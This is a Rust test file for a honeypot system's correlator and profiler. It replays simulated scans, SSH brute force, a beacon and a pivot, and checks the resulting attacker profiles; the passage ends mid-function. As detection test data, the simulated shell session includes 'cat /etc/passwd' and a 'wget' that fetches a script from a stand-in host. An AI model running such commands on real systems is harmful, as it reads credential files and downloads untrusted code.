//! Correlator and profiler, end to end on the repository.
//!
//! - Scenarios (SQLite and MariaDB): a port scan, a slow scan, an SSH brute force, a login
//!   followed by commands, a beacon every 60 s ± jitter and a pivot across three deckies, as
//!   the collector and the sensor would store them; one correlator pass and one profiler pass;
//!   the sessions, attacker rows, traversal path, pivots, credential reuse, scans, classes,
//!   score factors and technique ids are asserted exactly. A second pass changes nothing, and
//!   the same input cut into batches of 1, 3 and 7 rows gives the same tables.
//! - The real `decnet correlate` / `decnet profiler` binaries (`DECNET_BIN`, else cargo's): killed
//!   (SIGKILL) mid-way and rerun give the same tables as one clean run; a second correlator is
//!   refused by the lease, naming the holder; SIGTERM stops a daemon cleanly.
#[path = "../../decnet-core/tests/common/mod.rs"]
mod common;

use std::{
    net::{IpAddr, Ipv4Addr},
    path::PathBuf,
    process::{Command, Stdio},
    sync::{Arc, atomic::AtomicBool},
    time::{Duration, Instant},
};

use common::{Backend, TestDb};
use decnet_core::{
    model::*,
    repo::{Repository, Write},
};
use decnet_intel::{
    correlator::{self, pass::Config as CorrelatorConfig, scans::ScanConfig},
    profiler::{self, Config as ProfilerConfig, behaviour::BehaviourConfig},
};

const T0: i64 = 1_795_730_000_000_000_000;
const SEC: i64 = 1_000_000_000;
const MS: i64 = 1_000_000;

fn attacker(n: u8) -> IpAddr {
    IpAddr::V4(Ipv4Addr::new(203, 0, 113, n))
}

fn decky_ip(n: u8) -> IpAddr {
    IpAddr::V4(Ipv4Addr::new(10, 0, 0, n))
}

const WEB: &str = "web-01";
const DB: &str = "db-01";
const FILES: &str = "files-01";

fn fleet() -> Vec<Decky> {
    let d = |name: &str, n: u8, services: &[(&str, u16)]| Decky {
        name: name.into(),
        ip: decky_ip(n),
        hostname: name.into(),
        os_family: "linux".into(),
        archetype: "server".into(),
        persona: "{}".into(),
        status: "running".into(),
        services: services
            .iter()
            .map(|(s, p)| DeckyService {
                service: (*s).into(),
                port: *p,
                settings: "{}".into(),
            })
            .collect(),
    };
    vec![
        d(WEB, 11, &[("ssh", 22), ("http", 80)]),
        d(DB, 12, &[("ssh", 22), ("mysql", 3306)]),
        d(FILES, 13, &[("ssh", 22), ("ftp", 21)]),
    ]
}

/// What the collector stores for one decoy log line (and the credential it carries).
struct Line {
    event: NewEvent,
    credential: Option<CredentialAttempt>,
}

fn line(
    ts: i64,
    ip: IpAddr,
    decky: &str,
    service: &str,
    ty: &str,
    fields: &[(&str, &str)],
) -> Line {
    let map: serde_json::Map<String, serde_json::Value> = fields
        .iter()
        .map(|(k, v)| ((*k).to_owned(), serde_json::Value::String((*v).to_owned())))
        .collect();
    let fields_json = serde_json::Value::Object(map).to_string();
    let credential = fields
        .iter()
        .find(|(k, _)| *k == "principal")
        .map(|(_, p)| {
            let secret = fields
                .iter()
                .find(|(k, _)| *k == "secret_printable")
                .map_or("", |(_, s)| *s);
            CredentialAttempt {
                attacker_ip: ip,
                decky: decky.into(),
                service: service.into(),
                principal: p.as_bytes().to_vec(),
                secret_kind: "password".into(),
                secret: secret.as_bytes().to_vec(),
                attempts: 1,
                first_seen_ns: ts,
                last_seen_ns: ts,
            }
        });
    Line {
        event: NewEvent {
            ts_ns: ts,
            decky: decky.into(),
            service: service.into(),
            event_type: ty.into(),
            attacker_ip: Some(ip),
            attacker_port: Some(40_000),
            raw: format!("<134>1 {ts} {decky} {service} - {ty} {fields_json}").into_bytes(),
            fields: fields_json,
            dedup_key: None,
        },
        credential,
    }
}

fn auth(ts: i64, ip: IpAddr, decky: &str, service: &str, user: &str, pw: &str, ok: bool) -> Line {
    line(
        ts,
        ip,
        decky,
        service,
        "auth_attempt",
        &[
            ("principal", user),
            ("secret_printable", pw),
            ("secret_kind", "password"),
            ("result", if ok { "accepted" } else { "rejected" }),
            ("client_version", "SSH-2.0-libssh_0.10.6"),
        ],
    )
}

#[allow(clippy::too_many_arguments)]
fn flow(
    src: IpAddr,
    dst: IpAddr,
    sport: u16,
    dport: u16,
    proto: u8,
    flags: u8,
    packets: u64,
    t: i64,
    dur: i64,
) -> FlowRecord {
    FlowRecord {
        bridge: "decnet0".into(),
        port: "veth-x".into(),
        src_ip: src,
        dst_ip: dst,
        src_port: sport,
        dst_port: dport,
        proto,
        vlan: 0,
        packets,
        bytes: packets * 60,
        tcp_flags: flags,
        first_seen_ns: t,
        last_seen_ns: t + dur,
        ended: true,
    }
}

const SCANNER: u8 = 10;
const SLOW: u8 = 11;
const BRUTE: u8 = 20;
const SHELL: u8 = 30;
const BEACON: u8 = 40;
const PIVOT: u8 = 50;
const DOWNLOAD: u8 = 60;
const BEACON_JITTER_S: [i64; 10] = [0, 3, -2, 1, -3, 2, 0, -1, 3, -2];
const NMAP_UA: &str =
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)";

/// The scenarios' events and flows, in the order they reach the repository.
fn scenarios() -> (Vec<Line>, Vec<FlowRecord>) {
    let mut lines = Vec::new();
    let mut flows = Vec::new();
    // 1. Port scan: SYN to ports 1..=100 of web-01, one every 100 ms (10 s), half-open (SYN,
    //    RST); web-01 answers some (its replies are not the attacker's). Plus one HTTP request
    //    with the Nmap NSE User-Agent.
    let s = attacker(SCANNER);
    for i in 0..100u16 {
        let t = T0 + i64::from(i) * 100 * MS;
        flows.push(flow(
            s,
            decky_ip(11),
            50_000,
            i + 1,
            6,
            0x06,
            2,
            t,
            100 * MS,
        ));
        if i % 10 == 0 {
            flows.push(flow(decky_ip(11), s, i + 1, 50_000, 6, 0x14, 1, t + MS, 0));
        }
    }
    lines.push(line(
        T0 + 20 * SEC,
        s,
        WEB,
        "http",
        "request",
        &[("method", "GET"), ("path", "/"), ("user_agent", NMAP_UA)],
    ));
    // 2. Slow scan: a TCP connect probe to 12 ports of db-01, one every 50 s.
    let slow = attacker(SLOW);
    for i in 0..12u16 {
        let t = T0 + i64::from(i) * 50 * SEC;
        flows.push(flow(
            slow,
            decky_ip(12),
            41_000 + i,
            1000 + i,
            6,
            0x16,
            3,
            t,
            10 * MS,
        ));
    }
    // 3. SSH brute force on db-01: 20 connections, one password each, 1.5 s apart.
    let b = attacker(BRUTE);
    for i in 0..20 {
        let t = T0 + 1000 * SEC + i * 1500 * MS;
        lines.push(line(t, b, DB, "ssh", "connect", &[]));
        lines.push(auth(
            t + 500 * MS,
            b,
            DB,
            "ssh",
            "root",
            &format!("pass{i:02}"),
            false,
        ));
        lines.push(line(t + 1000 * MS, b, DB, "ssh", "disconnect", &[]));
    }
    // 4. A login followed by commands on web-01, at a human pace.
    let sh = attacker(SHELL);
    let t = T0 + 2000 * SEC;
    lines.push(line(
        t,
        sh,
        WEB,
        "ssh",
        "connect",
        &[("client_version", "SSH-2.0-OpenSSH_9.6")],
    ));
    lines.push(auth(t + 2 * SEC, sh, WEB, "ssh", "root", "toor", true));
    lines.push(line(
        t + 2 * SEC + 10 * MS,
        sh,
        WEB,
        "ssh",
        "login",
        &[("user", "root")],
    ));
    for (k, cmd) in [
        "uname -a",
        "cat /etc/passwd",
        "wget http://203.0.113.30/x.sh",
    ]
    .iter()
    .enumerate()
    {
        lines.push(line(
            t + (10 + 7 * k as i64) * SEC,
            sh,
            WEB,
            "ssh",
            "command",
            &[("cmd", cmd), ("user", "root")],
        ));
    }
    lines.push(line(t + 40 * SEC, sh, WEB, "ssh", "disconnect", &[]));
    // 5. A beacon: one HTTP request to files-01 every 60 s ± jitter, 10 times.
    let bc = attacker(BEACON);
    for (i, j) in BEACON_JITTER_S.iter().enumerate() {
        let t = T0 + 3000 * SEC + (i as i64 * 60 + j) * SEC;
        lines.push(line(
            t,
            bc,
            FILES,
            "http",
            "request",
            &[
                ("method", "POST"),
                ("path", "/submit.php"),
                ("user_agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"),
            ],
        ));
    }
    // 6. A pivot across three deckies: in through web-01's ssh, then db-01's ssh from web-01,
    //    then files-01's ftp from db-01, with the same password; the deckies' own connections
    //    show in the flows.
    let p = attacker(PIVOT);
    let t = T0 + 5000 * SEC;
    for (k, (decky, service, cmd)) in [
        (WEB, "ssh", "ssh admin@db-01"),
        (DB, "ssh", "ftp files-01"),
        (FILES, "ftp", ""),
    ]
    .iter()
    .enumerate()
    {
        let at = t + k as i64 * 100 * SEC;
        lines.push(line(at, p, decky, service, "connect", &[]));
        lines.push(auth(
            at + SEC,
            p,
            decky,
            service,
            "admin",
            "Winter2024!",
            true,
        ));
        if !cmd.is_empty() {
            lines.push(line(
                at + 5 * SEC,
                p,
                decky,
                service,
                "command",
                &[("cmd", cmd)],
            ));
        }
    }
    flows.push(flow(
        decky_ip(11),
        decky_ip(12),
        45_000,
        22,
        6,
        0x1b,
        30,
        t + 95 * SEC,
        60 * SEC,
    ));
    flows.push(flow(
        decky_ip(12),
        decky_ip(11),
        22,
        45_000,
        6,
        0x1b,
        25,
        t + 95 * SEC,
        60 * SEC,
    )); // the reply
    flows.push(flow(
        decky_ip(12),
        decky_ip(13),
        46_000,
        21,
        6,
        0x1b,
        12,
        t + 195 * SEC,
        30 * SEC,
    ));
    // 7. A download over HTTP from web-01: the session's bytes are its flows (both directions)
    //    that start within 5 s of its span; one flow 6 s before it and one 10 s after do not count.
    let dl = attacker(DOWNLOAD);
    let t = T0 + 9000 * SEC;
    lines.push(line(t, dl, WEB, "http", "connect", &[]));
    lines.push(line(
        t + SEC,
        dl,
        WEB,
        "http",
        "request",
        &[("method", "GET"), ("path", "/backup.tar")],
    ));
    lines.push(line(
        t + 20 * SEC,
        dl,
        WEB,
        "http",
        "request",
        &[("method", "GET"), ("path", "/db.sql")],
    ));
    lines.push(line(t + 30 * SEC, dl, WEB, "http", "disconnect", &[]));
    for (sport, packets, reply, at) in [
        (52_000, 10, 20, t - 2 * SEC),
        (52_001, 5, 8, t + 15 * SEC),
        (52_002, 3, 3, t - 6 * SEC),
        (52_003, 7, 7, t + 40 * SEC),
    ] {
        flows.push(flow(dl, decky_ip(11), sport, 80, 6, 0x1b, packets, at, SEC));
        flows.push(flow(
            decky_ip(11),
            dl,
            80,
            sport,
            6,
            0x1b,
            reply,
            at + MS,
            SEC,
        ));
    }
    // Noise the correlator must count, not choke on: no attacker address, fields not JSON.
    let mut anon = line(T0, s, WEB, "http", "request", &[]);
    anon.event.attacker_ip = None;
    anon.event.raw = b"anonymous".to_vec();
    lines.push(anon);
    let mut bad = line(T0 + 21 * SEC, s, WEB, "http", "request", &[]);
    bad.event.fields = "not json {".into();
    bad.event.raw = b"bad fields".to_vec();
    lines.push(bad);
    (lines, flows)
}

/// Stores `lines` as the collector does (events with their credentials, `chunk` per transaction).
async fn store(repo: &Repository, lines: &[Line], flows: &[FlowRecord], chunk: usize) {
    repo.write(&[Write::Deckies(&fleet())]).await.unwrap();
    for part in lines.chunks(chunk) {
        let events: Vec<NewEvent> = part.iter().map(|l| l.event.clone()).collect();
        let creds: Vec<(usize, CredentialAttempt)> = part
            .iter()
            .enumerate()
            .filter_map(|(i, l)| l.credential.clone().map(|c| (i, c)))
            .collect();
        repo.write(&[Write::EventsWithCredentials {
            events: &events,
            credentials: &creds,
        }])
        .await
        .unwrap();
    }
    for part in flows.chunks(chunk) {
        repo.upsert_flows(part).await.unwrap();
    }
}

fn correlator_config(batch: u32) -> CorrelatorConfig {
    CorrelatorConfig {
        idle_gap_ns: 300 * SEC,
        scan: ScanConfig {
            gap_ns: 60 * SEC,
            min_ports: 10,
            min_hosts: 5,
        },
        batch,
        flow_settle_ns: 0,
        host: "test-host".into(),
        own_addresses: Vec::new(),
    }
}

fn profiler_config(batch: u32) -> ProfilerConfig {
    ProfilerConfig {
        behaviour: BehaviourConfig::default(),
        batch,
        max_events: 5000,
        host: "test-host".into(),
    }
}

async fn correlate(repo: &Repository, batch: u32) -> decnet_intel::passes::Counters {
    let stop = Arc::new(AtomicBool::new(false));
    correlator::pass::run_pass(repo, &correlator_config(batch), &stop)
        .await
        .expect("correlator pass")
}

async fn profile(repo: &Repository, batch: u32) -> decnet_intel::passes::Counters {
    let stop = Arc::new(AtomicBool::new(false));
    profiler::run_pass(repo, &profiler_config(batch), &stop)
        .await
        .expect("profiler pass")
}

/// Everything the correlator and profiler derived, as text (without row ids and wall-clock
/// fields), for comparing runs.
async fn snapshot(repo: &Repository) -> String {
    let mut out = String::new();
    let attackers = repo.attackers_after(0, 100_000).await.unwrap();
    let mut ips: Vec<IpAddr> = attackers.iter().map(|a| a.ip).collect();
    ips.sort();
    for ip in ips {
        let mut a = repo.attacker(ip).await.unwrap().unwrap();
        a.id = 0;
        out.push_str(&format!("{a:?}\n"));
        for s in repo.sessions(ip).await.unwrap() {
            out.push_str(&format!("  {s:?}\n"));
        }
        out.push_str(&format!(
            "  touches {:?}\n",
            repo.touches(ip).await.unwrap()
        ));
        out.push_str(&format!(
            "  traversal {:?}\n",
            repo.traversal(ip).await.unwrap()
        ));
        out.push_str(&format!(
            "  scans {:?}\n",
            repo.scan_episodes(ip, false).await.unwrap()
        ));
        if let Some(mut p) = repo.profile(ip).await.unwrap() {
            p.computed_at_ns = 0;
            out.push_str(&format!("  profile {p:?}\n"));
        }
    }
    out.push_str(&format!("pivots {:?}\n", repo.pivots().await.unwrap()));
    out.push_str(&format!(
        "reuse {:?}\n",
        repo.credential_reuse().await.unwrap()
    ));
    out
}

fn factors(p: &AttackerProfile) -> Vec<(&str, i32)> {
    p.factors
        .iter()
        .map(|f| (f.factor.as_str(), f.weight))
        .collect()
}

async fn scenario_tables_are_exact(b: Backend) {
    let db = TestDb::new(b, "intel_scen").await;
    let repo = db.open().await;
    let (lines, flows) = scenarios();
    store(&repo, &lines, &flows, 10_000).await;
    let c = correlate(&repo, 5000).await;
    assert_eq!(c.get("events_read"), lines.len() as u64);
    assert_eq!(c.get("events_without_attacker"), 1);
    assert_eq!(c.get("events_bad_fields"), 1);
    assert_eq!(c.get("flows_read"), flows.len() as u64);
    let p = profile(&repo, 500).await;
    assert_eq!(p.get("attackers_profiled"), 7);

    // --- download: bytes of the flows around the session, both directions
    let dl = attacker(DOWNLOAD);
    let sessions = repo.sessions(dl).await.unwrap();
    assert_eq!(sessions.len(), 1, "{sessions:?}");
    assert_eq!(
        (
            sessions[0].event_count,
            sessions[0].bytes,
            sessions[0].closed
        ),
        (4, (10 + 20 + 5 + 8) * 60, true)
    );
    let a = repo.attacker(dl).await.unwrap().unwrap();
    assert_eq!((a.event_count, a.session_count, a.flow_count), (4, 1, 4));

    // --- port scan
    let s = attacker(SCANNER);
    let scans = repo.scan_episodes(s, false).await.unwrap();
    assert_eq!(scans.len(), 1, "{scans:?}");
    let sc = &scans[0];
    assert_eq!(
        (
            sc.kind.as_str(),
            sc.probes,
            sc.port_count,
            sc.host_count,
            sc.rate_per_min,
            sc.detected
        ),
        ("tcp_syn", 100, 100, 1, 600, true)
    );
    assert_eq!((sc.started_ns, sc.ended_ns), (T0, T0 + 10 * SEC));
    assert_eq!(sc.ports, (1..=100).collect::<Vec<u16>>());
    assert_eq!(sc.hosts, vec![WEB]);
    let a = repo.attacker(s).await.unwrap().unwrap();
    assert_eq!(
        (
            a.first_seen_ns,
            a.last_seen_ns,
            a.event_count,
            a.session_count,
            a.credential_count,
            a.flow_count
        ),
        (T0, T0 + 21 * SEC, 2, 1, 0, 100),
        "web-01's 10 replies are not the scanner's flows"
    );
    let pr = repo.profile(s).await.unwrap().unwrap();
    assert_eq!(pr.behaviour, "scanning");
    assert_eq!(
        factors(&pr),
        vec![
            ("network scan (tcp_syn)", 10),
            ("known scanner UA (nmap)", 5)
        ]
    );
    assert_eq!(pr.score, 15);
    assert_eq!(pr.tools, vec!["nmap"]);
    assert_eq!(pr.techniques, vec!["T1046"]);

    // --- slow scan
    let sl = attacker(SLOW);
    let scans = repo.scan_episodes(sl, true).await.unwrap();
    assert_eq!(scans.len(), 1);
    assert_eq!(
        (
            scans[0].kind.as_str(),
            scans[0].probes,
            scans[0].port_count,
            scans[0].rate_per_min
        ),
        ("tcp_connect", 12, 12, 1),
        "12 probes over 550.01 s"
    );
    let pr = repo.profile(sl).await.unwrap().unwrap();
    assert_eq!((pr.behaviour.as_str(), pr.score), ("slow_scan", 10));
    assert_eq!(pr.techniques, vec!["T1046"]);

    // --- brute force
    let bf = attacker(BRUTE);
    let sessions = repo.sessions(bf).await.unwrap();
    assert_eq!(sessions.len(), 20);
    for (i, s) in sessions.iter().enumerate() {
        let t = T0 + 1000 * SEC + i as i64 * 1500 * MS;
        assert_eq!(
            (s.started_ns, s.ended_ns, s.event_count, s.closed),
            (t, t + SEC, 3, true)
        );
        assert_eq!((s.decky.as_str(), s.service.as_str()), (DB, "ssh"));
        assert!(s.commands.is_empty());
    }
    let a = repo.attacker(bf).await.unwrap().unwrap();
    assert_eq!(
        (
            a.event_count,
            a.session_count,
            a.credential_count,
            a.flow_count
        ),
        (60, 20, 20, 0)
    );
    assert_eq!(
        (a.first_seen_ns, a.last_seen_ns),
        (T0 + 1000 * SEC, T0 + 1000 * SEC + 29_500 * MS)
    );
    let pr = repo.profile(bf).await.unwrap().unwrap();
    assert_eq!(pr.behaviour, "brute_force");
    assert_eq!(factors(&pr), vec![("brute force (20 attempts)", 15)]);
    assert_eq!(pr.score, 15);
    assert_eq!(pr.tools, vec!["libssh"]);
    assert_eq!(pr.techniques, vec!["T1110"]);
    assert_eq!(pr.evidence_until_ns, a.last_seen_ns);

    // --- login + commands
    let sh = attacker(SHELL);
    let t = T0 + 2000 * SEC;
    assert_eq!(
        repo.sessions(sh).await.unwrap(),
        vec![Session {
            attacker_ip: sh,
            decky: WEB.into(),
            service: "ssh".into(),
            started_ns: t,
            ended_ns: t + 40 * SEC,
            event_count: 7,
            bytes: 0,
            commands: vec![
                "uname -a".into(),
                "cat /etc/passwd".into(),
                "wget http://203.0.113.30/x.sh".into()
            ],
            closed: true,
        }]
    );
    let pr = repo.profile(sh).await.unwrap().unwrap();
    assert_eq!(pr.behaviour, "interactive");
    assert_eq!(
        factors(&pr),
        vec![
            ("valid credential used", 25),
            ("interactive commands (3)", 20)
        ]
    );
    assert_eq!(pr.score, 45);
    assert_eq!(pr.tools, vec!["libssh", "openssh"]);
    assert_eq!(pr.techniques, vec!["T1059", "T1078"]);

    // --- beacon
    let bc = attacker(BEACON);
    let sessions = repo.sessions(bc).await.unwrap();
    assert_eq!(sessions.len(), 1, "60 s apart is within the idle gap");
    assert_eq!((sessions[0].event_count, sessions[0].closed), (10, false));
    let pr = repo.profile(bc).await.unwrap().unwrap();
    assert_eq!(pr.behaviour, "beaconing");
    assert_eq!(
        factors(&pr),
        vec![
            ("beaconing every ~60 s", 20),
            ("cadence of a C2 default (cobalt_strike, sliver)", 10)
        ]
    );
    assert_eq!(pr.score, 30);
    assert_eq!(pr.tools, vec!["cobalt_strike", "sliver"]);
    assert_eq!(pr.techniques, vec!["T1071"]);

    // --- pivot across three deckies
    let pv = attacker(PIVOT);
    let t = T0 + 5000 * SEC;
    let tr = repo.traversal(pv).await.unwrap().expect("a traversal");
    assert_eq!(
        tr.hops,
        vec![
            Hop {
                decky: WEB.into(),
                first_seen_ns: t
            },
            Hop {
                decky: DB.into(),
                first_seen_ns: t + 100 * SEC
            },
            Hop {
                decky: FILES.into(),
                first_seen_ns: t + 200 * SEC
            },
        ]
    );
    assert_eq!((tr.first_seen_ns, tr.last_seen_ns), (t, t + 201 * SEC));
    for ip in [s, sl, bf, sh, bc] {
        assert_eq!(
            repo.traversal(ip).await.unwrap(),
            None,
            "{ip} touched one decky"
        );
    }
    assert_eq!(
        repo.pivots().await.unwrap(),
        vec![
            Pivot {
                src_decky: DB.into(),
                dst_decky: FILES.into(),
                dst_port: 21,
                proto: 6,
                first_seen_ns: t + 195 * SEC,
                last_seen_ns: t + 225 * SEC
            },
            Pivot {
                src_decky: WEB.into(),
                dst_decky: DB.into(),
                dst_port: 22,
                proto: 6,
                first_seen_ns: t + 95 * SEC,
                last_seen_ns: t + 155 * SEC
            },
        ]
    );
    let reuse = repo.credential_reuse().await.unwrap();
    assert_eq!(reuse.len(), 1, "{reuse:?}");
    let r = &reuse[0];
    assert_eq!(r.secret_printable, "Winter2024!");
    assert_eq!(r.targets, vec!["db-01/ssh", "files-01/ftp", "web-01/ssh"]);
    assert_eq!(
        (r.target_count, r.attacker_count, r.credential_rows),
        (3, 1, 3)
    );
    assert_eq!(r.attackers, vec![pv.to_string()]);
    assert_eq!((r.first_seen_ns, r.last_seen_ns), (t + SEC, t + 201 * SEC));
    // The SQL aggregation agrees with the rule as plain code.
    let all = repo.credentials_after(0, 1_000_000).await.unwrap();
    assert_eq!(reuse, correlator::reuse::reuse(&all));
    let a = repo.attacker(pv).await.unwrap().unwrap();
    assert_eq!(
        (a.event_count, a.session_count, a.credential_count),
        (8, 3, 3)
    );
    let pr = repo.profile(pv).await.unwrap().unwrap();
    assert_eq!(pr.behaviour, "interactive");
    assert_eq!(
        factors(&pr),
        vec![
            ("touched 3 deckies", 15),
            ("valid credential used", 25),
            ("interactive commands (2)", 20),
            ("credential reused across 3 targets", 10),
        ]
    );
    assert_eq!(pr.score, 70);
    assert_eq!(pr.techniques, vec!["T1021", "T1059", "T1078"]);

    // A second pass over the same data changes nothing (cursors: nothing pending).
    let before = snapshot(&repo).await;
    let c2 = correlate(&repo, 5000).await;
    assert_eq!(c2.get("events_read") + c2.get("flows_read"), 0);
    profile(&repo, 500).await;
    assert_eq!(snapshot(&repo).await, before);
    repo.close().await;
    db.cleanup().await;
}

/// The same input stored in small transactions and correlated in batches of 1, 3 and 7 rows
/// gives the tables one big batch gives: nothing depends on where the input was cut.
async fn batching_does_not_change_the_result(b: Backend) {
    let (lines, flows) = scenarios();
    let mut reference: Option<String> = None;
    for (store_chunk, batch) in [(10_000, 5000u32), (5, 1), (13, 3), (2, 7)] {
        let db = TestDb::new(b, &format!("intel_batch{batch}")).await;
        let repo = db.open().await;
        store(&repo, &lines, &flows, store_chunk).await;
        correlate(&repo, batch).await;
        profile(&repo, batch).await;
        let snap = snapshot(&repo).await;
        assert!(
            snap.contains("brute_force") && snap.contains("beaconing"),
            "{snap}"
        );
        match &reference {
            None => reference = Some(snap),
            Some(r) => assert_eq!(&snap, r, "batch {batch} differs from one big batch"),
        }
        repo.close().await;
        db.cleanup().await;
    }
}

/// The tables one correlate + profile pass over all of `lines` and `flows` gives (a fresh
/// database, one transaction of input): what the other orders of arrival must equal.
async fn one_clean_pass(b: Backend, tag: &str, lines: &[Line], flows: &[FlowRecord]) -> String {
    let once = TestDb::new(b, tag).await;
    let repo = once.open().await;
    store(&repo, lines, flows, 10_000).await;
    correlate(&repo, 5000).await;
    profile(&repo, 500).await;
    let want = snapshot(&repo).await;
    repo.close().await;
    once.cleanup().await;
    want
}

/// Input that arrives between passes (a late event inside an old session, the rest of a scan)
/// ends in the tables a single pass over everything gives.
async fn incremental_passes_equal_one_pass(b: Backend) {
    let (lines, flows) = scenarios();
    let want = one_clean_pass(b, "intel_once", &lines, &flows).await;

    let inc = TestDb::new(b, "intel_inc").await;
    let repo = inc.open().await;
    // Every third line and flow first, then the rest, with passes in between.
    let (first, rest): (Vec<usize>, Vec<usize>) = (0..lines.len()).partition(|i| i % 3 == 0);
    let pick = |ix: &[usize]| -> Vec<Line> {
        ix.iter()
            .map(|i| Line {
                event: lines[*i].event.clone(),
                credential: lines[*i].credential.clone(),
            })
            .collect()
    };
    let (mut f1, mut f2) = (Vec::new(), Vec::new());
    for (i, f) in flows.iter().enumerate() {
        if i % 3 == 0 {
            f1.push(f.clone())
        } else {
            f2.push(f.clone())
        }
    }
    store(&repo, &pick(&first), &f1, 10_000).await;
    correlate(&repo, 50).await;
    profile(&repo, 50).await;
    store(&repo, &pick(&rest), &f2, 10_000).await;
    correlate(&repo, 50).await;
    profile(&repo, 50).await;
    assert_eq!(snapshot(&repo).await, want);
    repo.close().await;
    inc.cleanup().await;
}

/// Input that arrives in shuffled slices — flows before the events they belong to, events long
/// after later ones of the same key — correlated by one long-running correlator (its state kept
/// between passes, as `--daemon` keeps it) ends in the tables one pass over everything gives.
async fn arrival_order_does_not_change_the_result(b: Backend) {
    let (lines, flows) = scenarios();
    let want = one_clean_pass(b, "intel_order_once", &lines, &flows).await;

    let db = TestDb::new(b, "intel_order").await;
    let repo = db.open().await;
    let stop = Arc::new(AtomicBool::new(false));
    let mut state = correlator::pass::State::default();
    let cfg = correlator_config(11);
    const SLICES: usize = 7;
    for (round, slice) in [3usize, 0, 6, 1, 5, 2, 4].into_iter().enumerate() {
        let part: Vec<Line> = lines
            .iter()
            .enumerate()
            .filter(|(i, _)| i % SLICES == slice)
            .map(|(_, l)| Line {
                event: l.event.clone(),
                credential: l.credential.clone(),
            })
            .collect();
        // Flows run one slice ahead of the events.
        let fs: Vec<FlowRecord> = flows
            .iter()
            .enumerate()
            .filter(|(i, _)| i % SLICES == (slice + 1) % SLICES)
            .map(|(_, f)| f.clone())
            .collect();
        store(&repo, &[], &fs, 10_000).await;
        correlator::pass::run_pass_with(&repo, &cfg, &stop, &mut state)
            .await
            .unwrap_or_else(|e| panic!("pass {round}: {e}"));
        store(&repo, &part, &[], 10_000).await;
        correlator::pass::run_pass_with(&repo, &cfg, &stop, &mut state)
            .await
            .unwrap_or_else(|e| panic!("pass {round}: {e}"));
    }
    profile(&repo, 500).await;
    assert_eq!(snapshot(&repo).await, want);
    repo.close().await;
    db.cleanup().await;
}

/// Every flow taken in before any event: the sessions the events then start count the flows
/// around them all the same.
async fn flows_before_events_equal_one_pass(b: Backend) {
    let (lines, flows) = scenarios();
    let want = one_clean_pass(b, "intel_fl_once", &lines, &flows).await;

    let db = TestDb::new(b, "intel_fl").await;
    let repo = db.open().await;
    store(&repo, &[], &flows, 10_000).await;
    correlate(&repo, 50).await;
    store(&repo, &lines, &[], 10_000).await;
    let c = correlate(&repo, 50).await;
    assert!(c.get("flows_reread") > 0, "{c:?}");
    profile(&repo, 500).await;
    assert_eq!(snapshot(&repo).await, want);
    repo.close().await;
    db.cleanup().await;
}

both_backends!(
    flows_before_events_equal_one_pass,
    scenario_tables_are_exact,
    batching_does_not_change_the_result,
    incremental_passes_equal_one_pass,
    arrival_order_does_not_change_the_result,
);

// --- the real binaries -------------------------------------------------------------------------

fn decnet_bin() -> PathBuf {
    std::env::var_os("DECNET_BIN")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(env!("CARGO_BIN_EXE_decnet")))
}

struct TempDir(PathBuf);

impl TempDir {
    fn new(tag: &str) -> TempDir {
        let dir = std::env::temp_dir().join(format!("decnet-intel-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).expect("temp dir");
        TempDir(dir)
    }
    fn url(&self, name: &str) -> String {
        format!("sqlite://{}", self.0.join(name).display())
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

fn worker(args: &[&str], url: &str) -> Command {
    let mut c = Command::new(decnet_bin());
    c.args(args)
        .args(["--db-url", url])
        .env_remove("DECNET_DB_TYPE")
        .env_remove("DECNET_DB_URL")
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped());
    c
}

fn run_ok(args: &[&str], url: &str) {
    let out = worker(args, url).output().expect("decnet runs");
    assert!(
        out.status.success(),
        "decnet {args:?} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Many copies of the scenarios (attackers shifted per copy) for a run long enough to kill.
fn big_history(copies: u8) -> (Vec<Line>, Vec<FlowRecord>) {
    let (base_lines, base_flows) = scenarios();
    let mut lines = Vec::new();
    let mut flows = Vec::new();
    for c in 0..copies {
        let shift = |ip: IpAddr| match ip {
            IpAddr::V4(v4) if v4.octets()[0] == 203 => {
                IpAddr::V4(Ipv4Addr::new(198, 18, c, v4.octets()[3]))
            }
            other => other,
        };
        let dt = i64::from(c) * 7 * SEC;
        for l in &base_lines {
            let mut e = l.event.clone();
            e.attacker_ip = e.attacker_ip.map(shift);
            e.ts_ns += dt;
            e.raw.extend_from_slice(format!(" copy{c}").as_bytes());
            let credential = l.credential.clone().map(|mut cr| {
                cr.attacker_ip = shift(cr.attacker_ip);
                cr.first_seen_ns += dt;
                cr.last_seen_ns += dt;
                cr
            });
            lines.push(Line {
                event: e,
                credential,
            });
        }
        for f in &base_flows {
            let mut f = f.clone();
            f.src_ip = shift(f.src_ip);
            f.dst_ip = shift(f.dst_ip);
            f.first_seen_ns += dt;
            f.last_seen_ns += dt;
            flows.push(f);
        }
    }
    (lines, flows)
}

async fn seeded(url: &str, lines: &[Line], flows: &[FlowRecord]) {
    let repo = Repository::connect(url).await.expect("open");
    store(&repo, lines, flows, 2000).await;
    repo.close().await;
}

/// SIGKILL `decnet correlate` (then `decnet profiler`) mid-way, rerun: the tables equal one
/// clean run's.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn killed_midway_and_rerun_equals_a_clean_run() {
    let dir = TempDir::new("kill");
    let (lines, flows) = big_history(40);
    let (clean, killed) = (dir.url("clean.db"), dir.url("killed.db"));
    seeded(&clean, &lines, &flows).await;
    seeded(&killed, &lines, &flows).await;

    run_ok(&["correlate", "--flow-settle", "0"], &clean);
    run_ok(&["profiler"], &clean);

    let total_events = lines.len() as i64;
    let repo = Repository::connect(&killed).await.unwrap();
    let host = decnet_core::repo::hostname();
    for (args, cursor, name) in [
        (
            &["correlate", "--flow-settle", "0", "--batch", "20"][..],
            "correlator",
            "events",
        ),
        (&["profiler", "--batch", "3"][..], "profiler", "evidence"),
    ] {
        let mut child = worker(args, &killed).spawn().expect("spawn");
        let deadline = Instant::now() + Duration::from_secs(120);
        // Kill once some batches are committed and before the end.
        loop {
            let pos = repo
                .cursor(cursor, &host, name)
                .await
                .unwrap()
